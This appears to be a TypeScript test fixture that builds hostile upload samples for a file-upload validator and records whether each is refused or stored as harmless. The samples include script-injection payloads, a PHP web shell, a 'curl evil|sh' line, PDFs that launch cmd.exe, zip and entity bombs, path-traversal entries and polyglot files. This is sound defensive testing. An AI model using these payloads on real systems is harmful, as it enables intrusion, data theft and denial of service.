import { deflateRawSync, deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';
import type { FileKindName } from '#contract/files/file-kinds.ts';

export interface Hostile {
  about: string;
  kind: FileKindName;
  name: string;
  bytes: Buffer;
  /** `refused` in every case; `harmless` may be stored, but only re-encoded or as a download. */
  end: 'refused' | 'harmless';
}

/** Content that must never reach a browser unchanged. */
export const MARK = 'alert(document.cookie)//hostile';
const script = `<script>${MARK}</script>`;
const text = (content: string) => Buffer.from(content);

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#1f5eff' }, limitInputPixels: false });
const jpeg = await solid(24, 16).jpeg().toBuffer();
const png = await solid(24, 16).png().toBuffer();
const gif = await solid(24, 16).gif().toBuffer();
const webp = await solid(24, 16).webp().toBuffer();
const located = await solid(24, 16)
  .withExif({ IFD0: { Copyright: MARK }, IFD3: { GPSLatitude: '39/1 54/1 0/1', GPSLatitudeRef: 'N' } })
  .jpeg()
  .toBuffer();
const withXmp = await solid(24, 16).withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${MARK}</x:xmpmeta>`).png().toBuffer();

export const pdf = (inside = '', end = '%%EOF\n') =>
  text(`%PDF-1.7\n1 0 obj<</Type/Catalog${inside}>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n${end}`);
export const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
export const typesOf = (part: string) =>
  `<Types><Override PartName="/word/document.xml" ContentType="${part}"/></Types>`;

export const relation = (inside: string) => `<Relationships><Relationship ${inside}/></Relationships>`;

/** A document with additional parts. */
export function office(more: Record<string, Uint8Array | string>, types = typesOf(main)): Buffer {
  const parts = {
    '[Content_Types].xml': types,
    '_rels/.rels': relation('Type="http://x/relationships/officeDocument" Target="word/document.xml"'),
    'word/document.xml': '<w:document/>',
    ...more,
  };
  const entries = Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]);
  return Buffer.from(zipSync(Object.fromEntries(entries)));
}

/** Overwrites what the archive's directory declares for its last entry. */
function lying(at: number, value: number, bytes = office({ 'word/big.xml': new Uint8Array(4_000_000) })): Buffer {
  const central = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]));
  bytes.writeUInt32LE(value, central + at);
  return bytes;
}

/** A PNG that declares this size and contains no pixels. */
function promising(width: number, height: number): Buffer {
  const bytes = Buffer.from(png);
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}

const flood = await solid(12_000, 9_000).png({ compressionLevel: 9 }).toBuffer();
const externalTemplate = relation('Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"');
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${MARK}"/>`;
const cfb = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000)]);
const mz = Buffer.concat([text('MZ'), Buffer.alloc(500), text(MARK)]);
const bmp = Buffer.concat([text('BM'), Buffer.alloc(60)]);
const tiff = await solid(24, 16).tiff().toBuffer();
const avif = await solid(24, 16).avif().toBuffer();
const entities = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>';
const nested = Buffer.from(zipSync({ 'inner.docx': office({}) }));

/** Objects of a PDF compressed as by common writers since version 1.5. */
export function packedPdf(objects: string, filter = '/Filter/FlateDecode', catalogue = ''): Buffer {
  const packed = deflateSync(Buffer.from(objects));
  return Buffer.concat([
    text(
      `%PDF-1.7\n1 0 obj<</Type/Catalog${catalogue}>>endobj\n2 0 obj<</Type/ObjStm/N 1/First 4${filter}/Length ${packed.length}>>stream\n`,
    ),
    packed,
    text('\nendstream endobj\nstartxref\n9\n%%EOF\n'),
  ]);
}
/** An embedded object of this class. */
export function oleObject(classId: string): Buffer {
  const bytes = Buffer.alloc(2_048);
  bytes.write('d0cf11e0a1b11ae1', 0, 'hex');
  bytes.writeUInt16LE(9, 30);
  bytes.writeUInt32LE(1, 48);
  bytes.write(classId, 2 * 512 + 80, 'hex');
  return bytes;
}
const pictureElsewhere = relation(
  'Type="http://x/relationships/image" Target="http://evil/x.png" TargetMode="External"',
);
const scriptObject = '3 0 <</S/JavaScript/JS(app.alert(1))>>';
/** Far above a part's limit, with the compression ratio of ordinary text. */
const heavyPart = new Uint8Array(60_000_000).map((_, at) => (at % 40 === 0 ? (at * 31) >> 8 : 65));

const refused: [FileKindName, string, Buffer, string][] = [
  ['avatar', 'a.png', text(''), 'nothing'],
  ['avatar', 'a.png', text('x'), 'one sign'],
  ['avatar', 'a.png', Buffer.alloc(5_000), 'zeroes'],
  ['avatar', 'a.svg', text(svg), 'an SVG'],
  ['avatar', 'a.png', text(`<?xml version="1.0"?>${svg}`), 'an SVG under another name'],
  ['avatar', 'a.png', text(`\ufeff${svg}`), 'an SVG behind a byte order mark'],
  ['avatar', 'a.jpg', text(`<!doctype html>${script}`), 'a page'],
  ['avatar', 'a.jpg', text(`GIF89a=0;${MARK}`), 'a script that begins as a GIF'],
  ['avatar', 'a.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), text(script)]), 'a page that begins as a JPEG'],
  ['avatar', 'a.png', Buffer.concat([png.subarray(0, 8), text(script)]), 'a page that begins as a PNG'],
  ['avatar', 'a.webp', text(`RIFF\x10\0\0\0WEBP${script}`), 'a page that begins as a WebP'],
  ['avatar', 'a.png', png.subarray(0, png.length - 30), 'a PNG cut short'],
  ['avatar', 'a.jpg', jpeg.subarray(0, 200), 'a JPEG cut short'],
  ['avatar', 'a.png', promising(60_000, 60_000), 'a PNG of 3.6 thousand million pixels'],
  ['avatar', 'a.png', promising(2_147_483_647, 1), 'a PNG of one endless row'],
  ['avatar', 'a.png', promising(0, 0), 'a PNG of no pixels'],
  ['avatar', 'a.png', flood, 'a PNG that unpacks to 108 million pixels'],
  ['avatar', 'a.bmp', bmp, 'a BMP'],
  ['avatar', 'a.tif', tiff, 'a TIFF'],
  ['avatar', 'a.avif', avif, 'an AVIF'],
  ['avatar', 'a.jpg', pdf(), 'a PDF as a picture'],
  ['avatar', 'a.jpg', office({}), 'a document as a picture'],
  ['avatar', 'a.ico', Buffer.from([0, 0, 1, 0, 1, 0, 16, 16]), 'an icon'],
  ['chatFile', 'a.pdf', jpeg, 'a picture as a document'],
  ['chatFile', 'a.exe', mz, 'a program'],
  ['chatFile', 'a.pdf', mz, 'a program under another name'],
  ['chatFile', 'a.pdf', text(`\n${script}%PDF-1.4`), 'a page with a PDF behind it'],
  ['chatFile', 'a.html', text(script), 'a page'],
  ['chatFile', 'a.js', text(MARK), 'a script'],
  ['chatFile', 'a.sh', text('#!/bin/sh\ncurl evil|sh'), 'a shell script'],
  ['chatFile', 'a.php', text(`<?php system($_GET[0]); ?>`), 'a PHP page'],
  ['chatFile', 'a.jsp', text('<% Runtime.getRuntime(); %>'), 'a JSP'],
  ['chatFile', 'a.doc', cfb, 'an old document, which may hold macros'],
  ['chatFile', 'a.rtf', text('{\\rtf1 {\\object}}'), 'an RTF'],
  ['chatFile', 'a.zip', nested, 'an archive'],
  ['chatFile', 'a.jar', Buffer.from(zipSync({ 'META-INF/MANIFEST.MF': strToU8('Main-Class: X') })), 'a JAR'],
  ['chatFile', 'a.gz', Buffer.concat([Buffer.from([0x1f, 0x8b, 8]), Buffer.alloc(40)]), 'a gzip'],
  ['chatFile', 'a.7z', Buffer.from('377abcaf271c0004', 'hex'), 'a 7z'],
  ['chatFile', 'a.rar', Buffer.concat([text('Rar!\x1a\x07\x01\0'), Buffer.alloc(20)]), 'a RAR'],
  ['chatFile', 'a.pdf', pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), 'a PDF with a script'],
  ['chatFile', 'a.pdf', pdf('/OpenAction<</S/J#61vaScript/J#53(x)>>'), 'a PDF with a script spelt otherwise'],
  ['chatFile', 'a.pdf', pdf('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'a PDF that starts a program'],
  ['chatFile', 'a.pdf', pdf('/Names<</EmbeddedFile 3 0 R>>'), 'a PDF with a file in it'],
  ['chatFile', 'a.pdf', packedPdf(scriptObject), 'a PDF with a packed script'],
  ['chatFile', 'a.pdf', packedPdf('3 0 <</S/J#53 (x)>>'), 'a PDF with a packed script spelt otherwise'],
  ['chatFile', 'a.pdf', packedPdf(scriptObject, '/Filter[/ASCII85Decode/FlateDecode]'), 'a PDF packed twice'],
  [
    'chatFile',
    'a.docx',
    office({ 'word/embeddings/oleObject1.bin': oleObject('0c000300000000c0') }),
    'a package in a document',
  ],
  [
    'chatFile',
    'a.docx',
    office({ 'word/embeddings/oleObject1.bin': oleObject('02ce020000000000c000000000000046') }),
    'an equation of the old editor',
  ],
  ['chatFile', 'a.docx', office({ 'word/embeddings/x.docm': 'x' }), 'a document with macros in a document'],
  ['chatFile', 'a.docx', office({ 'word/_rels/document.xml.rels': pictureElsewhere }), 'a picture from elsewhere'],
  ['chatFile', 'a.docx', office({ 'word/big.xml': heavyPart }), 'a part of 60 MB'],
  ['chatFile', 'a.pdf', pdf('/Encrypt 5 0 R'), 'an encrypted PDF'],
  ['chatFile', 'a.pdf', text('%PDF-1.7\nnothing more'), 'a PDF without an end'],
  ['chatFile', 'a.docx', office({ 'word/vbaProject.bin': 'x' }), 'a document with a macro'],
  ['chatFile', 'a.docx', office({}, typesOf('application/vnd.ms-word.document.macroEnabled.main+xml')), 'a DOCM'],
  ['chatFile', 'a.docx', office({ 'word/activeX/activeX1.bin': 'x' }), 'a document with ActiveX'],
  ['chatFile', 'a.xlsx', office({ 'xl/macrosheets/sheet1.xml': '<x/>' }), 'a sheet with old macros'],
  ['chatFile', 'a.docx', office({ '../../etc/cron.d/x': 'x' }), 'a path upwards'],
  ['chatFile', 'a.docx', office({ '/etc/passwd': 'x' }), 'a path from the root'],
  ['chatFile', 'a.docx', office({ '..\\..\\x.dll': 'x' }), 'a path of Windows'],
  ['chatFile', 'a.docx', office({ 'C:/x.xml': '<x/>' }), 'a drive'],
  ['chatFile', 'a.docx', office({ 'word/run.exe': mz }), 'a program in a document'],
  ['chatFile', 'a.docx', office({ 'word/document.xml': entities }), 'a document of entities'],
  ['chatFile', 'a.docx', office({ 'word/x.xml': Buffer.from(`\ufeff${entities}`, 'utf16le') }), 'entities in UTF-16'],
  ['chatFile', 'a.docx', office({ 'word/_rels/settings.xml.rels': externalTemplate }), 'a template from elsewhere'],
  [
    'chatFile',
    'a.docx',
    office({ 'word/_rels/x.rels': relation('Target="file:///etc/passwd"') }),
    'a file of the reader',
  ],
  ['chatFile', 'a.docx', office({ 'word/big.xml': new Uint8Array(30_000_000) }), 'a bomb'],
  ['chatFile', 'a.docx', lying(24, 10), 'a bomb that says it is small'],
  ['chatFile', 'a.docx', lying(24, 0xffffffff), 'an entry of 4 GB'],
  ['chatFile', 'a.docx', lying(20, 0xffffff), 'an entry that ends behind the file'],
  ['chatFile', 'a.docx', lying(42, 0xfffffff0), 'an entry that lies behind the file'],
  ['chatFile', 'a.docx', lying(42, 0), 'an entry that lies where another does'],
  ['chatFile', 'a.docx', lying(8, 0x00080001), 'an encrypted document'],
  ['chatFile', 'a.docx', office({}).subarray(0, 200), 'a document cut short'],
  ['chatFile', 'a.docx', Buffer.concat([text('PK\x03\x04'), deflateRawSync(Buffer.alloc(9_000))]), 'half an archive'],
  ['lessonVideo', 'a.mp4', text(`\0\0\0\x18ftyp${script}`), 'a page that begins as a video'],
  ['lessonVideo', 'a.mp4', text(`\0\0\0\x10ftypisom\0\0\0\0\0\0\0\x20free${script}`), 'a video of nothing'],
  ['lessonVideo', 'a.mp4', text(script), 'a page as a video'],
  ['lessonVideo', 'a.mp4', avif, 'a picture as a video'],
];

const harmless: [FileKindName, string, Buffer, string][] = [
  ['avatar', 'a.jpg', located, 'a photo with its place'],
  ['avatar', 'a.png', withXmp, 'a picture with a script in its words'],
  ['avatar', 'a.html', Buffer.concat([jpeg, text(script)]), 'a JPEG with a page behind it'],
  ['avatar', 'a.php', Buffer.concat([png, text(`<?php ${MARK} ?>`)]), 'a PNG with PHP behind it'],
  ['avatar', 'a.jar', Buffer.concat([gif, office({})]), 'a GIF with an archive behind it'],
  ['avatar', 'a.svg', Buffer.concat([webp, text(svg)]), 'a WebP with an SVG behind it'],
  ['avatar', '../../../etc/passwd', jpeg, 'a path for a name'],
  ['avatar', '<img src=x onerror=alert(1)>.jpg', jpeg, 'markup for a name'],
  ['avatar', '"; filename="x.html', jpeg, 'a header for a name'],
  ['avatar', '照片\u202egpj.exe', jpeg, 'a name that reads backwards'],
  ['avatar', '.htaccess', jpeg, 'a name of a server'],
  ['avatar', 'con.jpg', jpeg, 'a name of a device'],
  ['chatFile', 'a.html', pdf(`/Title(${script})`), 'a PDF with a page in it'],
  ['chatFile', 'a.docx', office({ 'word/x.html': script }), 'a document with a page in it'],
  ['chatFile', 'a.docx', Buffer.concat([office({}), text(script)]), 'a document with a page behind it'],
  ['chatFile', 'a.pdf', packedPdf('3 0 <</Type/Catalog>>'), 'a PDF of packed objects'],
  [
    'chatFile',
    'a.docx',
    office({ 'word/embeddings/oleObject1.bin': oleObject('03ce020000000000c000000000000046') }),
    'a document with an equation',
  ],
];

/** Malicious files, generated here. */
export const hostileFiles: Hostile[] = [
  ...refused.map(([kind, name, bytes, about]): Hostile => ({ kind, name, bytes, about, end: 'refused' })),
  ...harmless.map(([kind, name, bytes, about]): Hostile => ({ kind, name, bytes, about, end: 'harmless' })),
];
